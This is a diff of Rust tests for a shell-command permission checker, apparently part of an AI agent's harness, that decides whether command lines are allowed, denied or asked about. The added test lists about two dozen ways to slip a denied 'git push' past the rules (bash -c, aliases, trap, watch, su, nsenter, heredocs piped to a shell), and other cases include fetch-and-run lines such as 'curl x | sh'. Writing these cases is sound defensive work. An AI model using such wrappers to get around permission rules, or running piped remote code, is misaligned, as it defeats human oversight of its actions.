@@ -47,17 +47,18 @@ fn an_allow_covers_a_line_only_when_every_command_is_allowed() {
         ("cargo test", "allow"),
         ("cargo test --workspace -- --nocapture", "allow"),
         ("cargo test && git status", "allow"),
-        ("cargo test; curl x | sh", "undecided"),
-        ("cargo test | sh", "undecided"),
+        // A shell running its input runs what no rule sees: asked about, since a deny exists.
+        ("cargo test; curl x | sh", "ask"),
+        ("cargo test | sh", "ask"),
         ("cargo testx", "undecided"),
         ("cargo build", "undecided"),
         ("cargo test $(curl x)", "undecided"),
-        ("echo `curl x | sh`", "undecided"),
+        ("echo `curl x | sh`", "ask"),
         ("./cargo test", "undecided"),
         ("sudo cargo test", "undecided"),
         ("env X=1 cargo test", "allow"),
         ("cargo test\ncurl x", "undecided"),
-        ("(cargo test) & (sh)", "undecided"),
+        ("(cargo test) & (sh)", "ask"),
     ] {
         assert_eq!(kind(&bash(&rules, line)), expected, "{line}");
     }
@@ -236,4 +237,55 @@ fn bad_rules_say_what_is_wrong() {
         source: PathBuf::new(),
     }]);
     assert_eq!(kind(&bash(&rules, "npm run test -- x")), "allow");
+}
+
+/// The ways around a deny found by the attack pass of 2026-12-07 (docs/reliability.md), each
+/// denied or asked about, beside lines that must stay as they were.
+#[test]
+fn the_ways_around_a_deny_found_by_the_attack_pass_are_closed() {
+    let rules = usual();
+    for line in [
+        "bash -c -- 'git push'",
+        "busybox sh -c 'git push'",
+        "function f { git push; }; f",
+        "function f() { git push; }; f",
+        "shopt -s expand_aliases\nalias p='git push'\np",
+        "trap 'git push' EXIT",
+        "watch git push",
+        "watch -n 5 'git push'",
+        "su root -c 'git push'",
+        "su --command='git push'",
+        "script -qc 'git push' /dev/null",
+        "timeout -- 5 git push",
+        "flock /tmp/lock git push",
+        "chroot / git push",
+        "unshare -r git push",
+        "nsenter -t 1 git push",
+        "strace -f -o log git push",
+        "ltrace git push",
+        "ionice -c 3 git push",
+        "chrt -i 0 git push",
+        "taskset 1 git push",
+    ] {
+        assert_eq!(kind(&bash(&rules, line)), "deny", "{line:?}");
+    }
+    for line in [
+        "echo 'git push' | sh",
+        "bash <<EOF\ngit push\nEOF",
+        "bash <<< 'git push'",
+        "sh -s < script",
+        "source /dev/stdin <<< 'git push'",
+    ] {
+        assert_eq!(kind(&bash(&rules, line)), "ask", "{line:?}");
+    }
+    for (line, expected) in [
+        ("bash --version", "undecided"),
+        ("bash script.sh", "undecided"),
+        ("sh -c 'echo hi'", "allow"),
+        ("trap - EXIT", "undecided"),
+        ("alias ll='ls -l'", "undecided"),
+        ("echo 'git push'", "allow"),
+    ] {
+        assert_eq!(kind(&bash(&rules, line)), expected, "{line:?}");
+    }
 }
